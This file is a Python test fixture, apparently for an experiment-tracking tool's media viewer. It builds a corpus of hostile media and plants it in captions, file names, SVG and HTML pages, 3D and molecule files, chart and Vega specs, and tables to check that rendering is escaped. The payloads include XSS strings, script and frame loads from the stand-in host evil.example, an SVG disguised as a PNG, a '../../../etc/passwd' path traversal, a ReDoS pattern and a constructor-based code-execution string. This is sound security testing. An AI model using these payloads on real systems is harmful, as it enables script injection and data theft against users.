"""Media that attack whoever looks at them: the one corpus of hostile texts and files, by the place that each is in."""

from __future__ import annotations

import base64
import hashlib
import io
import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

TEXTS = r"""
<script>window.harmed=1</script>
</script><script>window.harmed=1</script>
"><script src=//evil.example/x.js></script>
<img src=x onerror=window.harmed=1>
<svg onload=window.harmed=1>
"'><svg/onload=window.harmed=1>
<svg><script>window.harmed=1</script></svg>
<b>bold</b>
" onmouseover="window.harmed=1
' onfocus='window.harmed=1' autofocus='
` onclick=window.harmed=1 `
</title><script>window.harmed=1</script>
</textarea><script>window.harmed=1</script>
</pre></code><script>window.harmed=1</script>
<!--
-->&lt;<script>window.harmed=1</script>
]]><script>window.harmed=1</script>
javascript:window.harmed=1
data:text/html,<script>window.harmed=1</script>
<a href='javascript:window.harmed=1'>x</a>
<iframe src=//evil.example>
<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>
<base href=//evil.example/>
<meta http-equiv=refresh content='0;//evil.example'>
<style>@import "//evil.example/c";*{background:url(//evil.example/i)}</style>
red;background:url(//evil.example/i)
{{ 7 * 7 }}{% raw %}${7*7}
${field:x}${string:title}
__proto__
constructor
""".strip().splitlines()
"""Texts that become scripts, elements, styles or addresses where they are not escaped."""
CLIENT_ID = "c0ffee"
"""The client id of the artifact that has the table's files."""
NUMBERS = list(range(len(TEXTS)))
BY_NUMBER = {str(number): text for number, text in enumerate(TEXTS)}


@dataclass
class HostileMedia:
    """A row with its files by their path in the run, the config's `_wandb` entry, and the files of an artifact.

    Whatever in them loads something asks *elsewhere*, the address of another server.
    """

    elsewhere: str
    row: dict[str, Any] = field(default_factory=dict)
    files: dict[str, bytes] = field(default_factory=dict)
    config: dict[str, Any] = field(default_factory=dict)
    artifact: dict[str, bytes] = field(default_factory=dict)

    def add(self, kind: str, path: str, content: str | bytes | Any, **details: Any) -> dict[str, Any]:
        """Add a file below `media/`, and return its JSON."""
        data = content if isinstance(content, bytes) else content if isinstance(content, str) else json.dumps(content)
        path = f"media/{path}"
        self.files[path] = data.encode() if isinstance(data, str) else data
        return {"_type": f"{kind}-file", "path": path, "size": len(self.files[path]), **details}

    def address(self, name: str) -> str:
        """Return an address on the other server."""
        return f"{self.elsewhere}/{name}"

    def svg(self) -> str:
        """Return an SVG picture that runs a script and loads pictures, styles and fonts in every way."""
        at = self.address
        return (
            f'<?xml version="1.0"?><?xml-stylesheet href="{at("xsl")}"?>'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" '
            f'onload="parent.harmed=1"><script>parent.harmed=1</script><script href="{at("svg.js")}"/>'
            f"<style>@import url({at('svg.css')});rect{{fill:url({at('fill')})}}</style><image "
            f'href="{at("image.png")}" '
            f'width="9" height="9"/><use xlink:href="{at("use.svg")}#x"/><rect width="40" height="40" fill="red"/>'
            '<set attributeName="onclick" to="parent.harmed=1"/><a href="javascript:parent.harmed=1"><text>x</text></a>'
            f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{at("frame")}"/>'
            "</foreignObject></svg>"
        )

    def html(self) -> str:
        """Return a page that runs a script and loads something in every way that HTML has."""
        at = self.address
        links = ("stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest")
        return "".join(
            (
                "<p id=seen>seen</p>",
                *TEXTS,
                *(f'<link rel={rel} href="{at(rel)}" as=script>' for rel in links),
                f'<script src="{at("script")}"></script><iframe src="{at("iframe")}"></iframe><img src="{at("img")}">',
                f'<img srcset="{at("srcset")} 2x"><object data="{at("object")}"></object><embed src="{at("embed")}">',
                f'<video poster="{at("poster")}" src="{at("video")}" autoplay></video>',
                f'<audio src="{at("audio")}"></audio>',
                f'<input type=image src="{at("input")}"><p style="background:url({at("style")})">x</p>',
                f'<meta http-equiv=refresh content="0;url={at("refresh")}"><table background="{at("table")}"></table>',
                f'<script type=speculationrules>{{"prefetch":[{{"urls":["{at("rules")}"]}}]}}</script>',
                self.svg(),
            )
        )


def _captions(media: HostileMedia) -> None:
    """Add captions, keys and names of pictures."""
    paths = [
        media.add("image", f"images/{text.replace('/', '')[:80]}_{at}.png", png())["path"]
        for at, text in enumerate(TEXTS)
    ]
    media.row["captions"] = {"_type": "images/separated", "count": len(paths), "filenames": paths, "captions": TEXTS}
    for at, text in enumerate((*TEXTS[:-2:4], *TEXTS[-2:])):
        media.row[text] = media.add("image", f"images/key_{at}.png", png(), caption=text)


def _layers(media: HostileMedia) -> None:
    """Add class labels of masks and boxes, captions and scores of boxes, names of layers."""
    position = {"minX": 0, "maxX": 1, "minY": 0, "maxY": 1}
    boxes = [
        {"position": position, "class_id": at, "box_caption": text, "scores": {text: 1}, "domain": text}
        for at, text in enumerate(TEXTS)
    ]
    mask = Image.frombytes("L", (len(TEXTS), 1), bytes(NUMBERS))
    layers = {
        "boxes": {
            TEXTS[0]: media.add("boxes2D", "metadata/boxes2D/b.json", {"box_data": boxes, "class_labels": BY_NUMBER})
        },
        "masks": {TEXTS[1]: media.add("mask", "images/mask/m.png", png(mask))},
    }
    media.row["layers"] = media.add("image", "images/layers.png", png(), **layers)
    for kind, layer in (("mask/class_labels", TEXTS[1]), ("bounding_box/class_labels", TEXTS[0])):
        name = f"layers_wandb_delimeter_{layer}"
        media.config[kind] = {name: {"type": kind, "key": name, "value": BY_NUMBER}}


def _sounds(media: HostileMedia) -> None:
    """Add captions and names of sounds and videos, one of which is not what it says."""
    media.row["sound"] = media.add("audio", f"audio/{TEXTS[3]}.wav", media.svg(), caption=TEXTS[3])
    media.row["video"] = media.add("video", f"videos/{TEXTS[3]}.mp4", media.html(), caption=TEXTS[3])
    media.row["animation"] = media.add("video", "videos/a.gif", media.svg(), caption=TEXTS[0])


def _objects(media: HostileMedia) -> None:
    """Add names of objects, materials, atoms and labels in 3D files, and what those files want from elsewhere."""
    script, image = TEXTS[0], TEXTS[3]
    points = [[0, 0, 0], [1, 1, 1]]
    boxes = [{"corners": [[0, 0, 0]] * 8, "label": text, "color": [text]} for text in TEXTS]
    cloud = {"type": "lidar/beta", "points": points, "boxes": boxes, "vectors": []}
    mesh = (
        f"mtllib {media.address('m.mtl')}\no {script}\ng {image}\nusemtl {script}\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n"
    )
    scene = {
        "asset": {"version": "2.0", "generator": script},
        "buffers": [{"uri": media.address("b.bin"), "byteLength": 36}],
        "bufferViews": [{"buffer": 0, "byteLength": 36}],
        "accessors": [{"bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3"}],
        "images": [{"uri": media.address("i.png"), "name": script}],
        "materials": [{"name": image}],
        "meshes": [{"name": script, "primitives": [{"attributes": {"POSITION": 0}}]}],
        "nodes": [{"name": image, "mesh": 0}],
        "scenes": [{"nodes": [0]}],
    }
    atom = "ATOM      1  {0:<4}{1:>3} A   1       0.000   0.000   0.000  1.00  0.00          {2:>2}"
    sdf = f"{image}\n{script}\n{script}\n  1  0\n    0.0000    0.0000    0.0000 <b> 0\nM  END\n> <{image}>\n{script}\n"
    mol2 = f"@<TRIPOS>MOLECULE\n{image}\n1 0\n@<TRIPOS>ATOM\n1 {image.replace(' ', '')} 0 0 0 <b>\n"
    names = "".join(f"_atom_site.{name}\n" for name in ("type_symbol", "Cartn_x", "Cartn_y", "Cartn_z"))
    facet = "facet normal 0 0 1\nouter loop\nvertex 0 0 0\nvertex 1 0 0\nvertex 0 1 0\nendloop\nendfacet\n"
    contents: dict[str, Any] = {
        "object3D/c.pts.json": cloud,
        "object3D/m.obj": mesh,
        "object3D/s.gltf": scene,
        "object3D/t.stl": f"solid {image}\n{facet}",
        "molecule/m.pdb": "\n".join((f"TITLE {script}", atom.format("<b>", "<i>", "<b"))),
        "molecule/m.sdf": sdf,
        "molecule/m.mol2": mol2,
        "molecule/m.cif": f"data_x\nloop_\n{names}'{script}' 0 0 0\n",
        "molecule/m.gro": f"{script}\n1\n    1{script[:5]}{image[:5]}    1   0.000   0.000   0.000\n",
    }
    for path, content in contents.items():
        kind, _, name = path.partition("/")
        media.row[name] = media.add(kind, path, content, caption=image)


def _pages(media: HostileMedia) -> None:
    """Add pages, and SVG pictures given as pictures, pages and cells."""
    media.row["page"] = media.add("html", f"html/{TEXTS[3]}.html", media.html(), caption=TEXTS[0])
    media.row["drawing"] = media.add("image", "images/d.svg", media.svg(), caption=TEXTS[0], format="svg")
    media.row["svg page"] = media.add("html", "html/d.svg", media.svg())
    media.row["disguised"] = media.add("image", "images/e.png", media.svg(), caption=TEXTS[4])
    chart = {"data": {"url": media.address("altair")}, "mark": "bar", "title": TEXTS[0]}
    call = f"var spec = {json.dumps(chart)};vegaEmbed(spec);"
    altair = f"<script src='{media.address('embed')}'></script><script>{call}</script>"
    media.row["altair"] = media.add("html", "html/a.html", altair)


def _figures(media: HostileMedia) -> None:
    """Add texts in figures of Plotly and Bokeh, and nodes of graphs."""
    traces = [
        {"type": "scatter", "x": TEXTS, "y": NUMBERS, "name": text, "text": text, "hovertemplate": text}
        for text in TEXTS
    ]
    picture = {"source": media.address("layout.png"), "x": 0, "y": 1, "sizex": 1, "sizey": 1}
    link = "<a href='javascript:window.harmed=1'>x</a>"
    layout = {"title": {"text": link}, "xaxis": {"title": TEXTS[3]}, "yaxis": {"title": TEXTS[0]}, "images": [picture]}
    heat = {"type": "heatmap", "z": [[1, 2], [3, 4]], "x": TEXTS[:2], "y": TEXTS[2:4]}
    other = {"type": TEXTS[3], "geojson": media.address("geo.json")}
    bokeh = {"doc": {"title": TEXTS[0], "roots": [{"attributes": {"text": text}} for text in TEXTS]}}
    nodes = [{"id": text, "name": text, "class_name": text} for text in TEXTS]
    graph = {"format": "keras", "nodes": nodes, "edges": [[TEXTS[0], TEXTS[1]]]}
    media.row["figure"] = media.add("plotly", "plotly/f.plotly.json", {"data": traces, "layout": layout})
    media.row["heat"] = media.add("plotly", "plotly/h.plotly.json", {"data": [heat, other], "layout": layout})
    media.row["bokeh"] = media.add("bokeh", "bokeh/b.bokeh.json", bokeh, caption=TEXTS[0])
    media.row["graph"] = media.add("graph", "graph/g.graph.json", graph, caption=TEXTS[3])
    media.row[f"histogram {TEXTS[3]}"] = {"_type": "histogram", "values": [1, 2], "bins": [0, 1, 2], TEXTS[0]: TEXTS[0]}


def _tables(media: HostileMedia) -> None:
    """Add columns and cells of tables, and media in cells, which come from an artifact."""
    rows = [[text, {text: text}, [text]] for text in TEXTS]
    media.row["words"] = media.add(
        "table", "table/w.table.json", {"columns": TEXTS[:3], "data": rows}, ncols=3, nrows=len(rows)
    )
    cells = {
        "media/images/cell.png": png(),
        "media/images/cell.svg": media.svg().encode(),
        "media/html/cell.html": media.html().encode(),
    }
    kinds = ("image", "image", "html")
    cell = [
        {"_type": f"{kind}-file", "path": path, "caption": TEXTS[3]} for kind, path in zip(kinds, cells, strict=True)
    ]
    foreign = {"_type": "image-file", "path": media.address("cell.png"), "caption": TEXTS[0]}
    script = {"_type": "image-file", "path": "javascript:window.harmed=1"}
    columns = [TEXTS[0], *TEXTS[3:8]]
    full = {"columns": columns, "data": [[0, *cell, foreign, script]], "column_types": {TEXTS[0]: TEXTS[0]}}
    media.artifact = {"cells.table.json": json.dumps(full).encode(), **cells}
    address = f"wandb-client-artifact://{CLIENT_ID}/cells.table.json"
    words = {"columns": columns, "data": [[0, *["Image"] * 5]]}
    media.row["cells"] = media.add("table", "table/c.table.json", words, ncols=6, nrows=1, artifact_path=address)
    for at, name in enumerate((media.address("t.json"), "javascript:window.harmed=1", "../../../etc/passwd")):
        forged = {"artifact_path": name, "ncols": 1, "nrows": 1}
        media.row[f"forged {at}"] = media.add(
            "table", f"table/f{at}.table.json", {"columns": ["a"], "data": [[at]]}, **forged
        )
        media.row[f"elsewhere {at}"] = {"_type": "image-file", "path": name, "caption": TEXTS[0]}


def _charts(media: HostileMedia) -> None:
    """Add titles and labels of charts, and specs of Vega."""
    rows = [[text, at, text] for at, text in enumerate(TEXTS)]
    media.row["table"] = media.add(
        "table", "table/p.table.json", {"columns": ["x", "y", "z"], "data": rows}, ncols=3, nrows=9
    )
    texts = {"title": TEXTS[3], "x-axis-title": TEXTS[0], "y-axis-title": TEXTS[4], TEXTS[0]: TEXTS[0]}
    panels: dict[str, tuple[str, dict[str, Any], Any]] = {
        "bar": ("wandb/bar/v0", {"label": "x", "value": "y"}, None),
        "line": ("wandb/line/v0", {"x": "y", "y": "y", "stroke": "z"}, None),
        "matrix": ("wandb/confusion_matrix/v1", {"Actual": "x", "Predicted": "z", "nPredictions": "y"}, None),
        f"named {TEXTS[3]}": (TEXTS[3], {TEXTS[0]: TEXTS[3]}, None),
        **{f"own {name}": ("own-spec", {"x": "y"}, spec) for name, spec in _vega_specs(media).items()},
    }
    media.config["visualize"] = {}
    for key, (panel, fields, spec) in panels.items():
        argument = {"name": "tableKey", "value": "table"}
        query = {"queryFields": [{"name": "runSets", "fields": [{"name": "summaryTable", "args": [argument]}]}]}
        config = {"panelDefId": panel, "fieldSettings": fields, "stringSettings": texts, "userQuery": query}
        config |= {"vegaSpec": json.dumps(spec)} if spec else {}
        media.config["visualize"][key] = {"panel_type": "Vega2", "panel_config": config}


def _vega_specs(media: HostileMedia) -> dict[str, Any]:
    """Return specs that load pictures, data and pages, follow links, and leave their place on the page."""
    data = {"name": "wandb"}
    field = {"field": "y", "type": "quantitative"}
    script, address = "javascript:window.harmed=1", media.address
    text = {
        "mark": {"type": "text", "tooltip": True, "font": f"url({address('font')})"},
        "data": data,
        "title": TEXTS[3],
    }
    link = {
        "text": {"field": "x"},
        "href": {"value": script},
        "tooltip": {"field": "x"},
        "url": {"value": address("u")},
    }
    picture = {"mark": {"type": "image", "width": 9, "height": 9}, "data": data}
    inputs = [
        {"name": "a", "bind": {"input": "text", "element": "body", "name": TEXTS[3]}},
        {"name": "b", "bind": {"input": "select", "options": TEXTS, "labels": TEXTS, "name": TEXTS[0]}},
        {"name": "c", "bind": {"input": "radio", "element": "#view, main, #main", "options": TEXTS}},
    ]
    keys = {"events": {"source": "window", "type": "keydown", "consume": True}, "update": "event.key"}
    clicks = {"events": {"source": "a, button, body", "type": "click", "consume": True}, "update": "event.view.open"}
    rect = {"enter": {"x": {"value": 0}, "width": {"value": 99}, "height": {"value": 99}, "href": {"value": script}}}
    marks = [{"type": "rect", "encode": rect}, {"type": "image", "encode": {"enter": {"url": {"value": address("m")}}}}]
    vega = {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 99, "height": 99, "marks": marks}
    return {
        "text": {**text, "encoding": {"x": field, "y": field, **link}},
        "image": {**picture, "encoding": {"x": field, "url": {"value": address("vega.png")}}},
        "data": {**text, "data": {"url": address("vega.csv")}},
        "topology": {"mark": "geoshape", "data": {"url": address("topo"), "format": {"type": "topojson"}}},
        "inputs": {**vega, "signals": inputs, "title": TEXTS[3], "usermeta": {"embedOptions": {"ast": False}}},
        "events": {**vega, "signals": [{"name": "k", "on": [keys, clicks]}], "config": {"events": {"bind": "any"}}},
        "cursor": {**vega, "signals": [{"name": "cursor", "value": f"url({address('cursor')})"}]},
        "pattern": {**vega, "signals": [{"name": "p", "init": "test(/^(a+)+$/, pad('!', 99, 'a', 'left'))"}]},
        "code": {**vega, "signals": [{"name": "s", "init": "constructor.constructor('window.harmed=1')()"}]},
    }


def _texts(media: HostileMedia) -> None:
    """Add texts, and values whose type is a text."""
    media.row["text"] = TEXTS[0]
    media.row["strange"] = {"_type": f"{TEXTS[3]}-file", "path": "media/x", "caption": TEXTS[3]}
    media.row["other"] = media.add(TEXTS[3][:30], "other/x.bin", b"x", caption=TEXTS[0])
    media.row["loss"] = 1.0


PLACES: tuple[Callable[[HostileMedia], None], ...] = (
    _captions,
    _layers,
    _sounds,
    _objects,
    _pages,
    _figures,
    _tables,
    _charts,
    _texts,
)
"""What puts hostile texts and files into each kind of place."""


def hostile_media(elsewhere: str) -> HostileMedia:
    """Return media that are hostile in all places."""
    media = HostileMedia(elsewhere)
    for place in PLACES:
        place(media)
    return media


def png(picture: Image.Image | None = None) -> bytes:
    """Return a picture, by default a red one of 8 x 8 pixels, as PNG."""
    file = io.BytesIO()
    (picture or Image.new("RGB", (8, 8), (200, 30, 30))).save(file, "PNG")
    return file.getvalue()


def write_files(media: HostileMedia, directory: Path) -> None:
    """Write the files, and those of the artifact, into a run directory."""
    for name, content in media.files.items():
        path = directory / "files" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    contents = {}
    for folder in ("objects", "manifests"):
        (directory / "artifacts" / folder).mkdir(parents=True)
    for name, content in media.artifact.items():
        digest = hashlib.md5(content, usedforsecurity=False)
        (directory / "artifacts/objects" / digest.hexdigest()).write_bytes(content)
        contents[name] = {"digest": base64.b64encode(digest.digest()).decode(), "size": len(content)}
    manifest = directory / "artifacts/manifests" / f"{CLIENT_ID}.json"
    manifest.write_text(json.dumps({"version": 1, "contents": contents}))
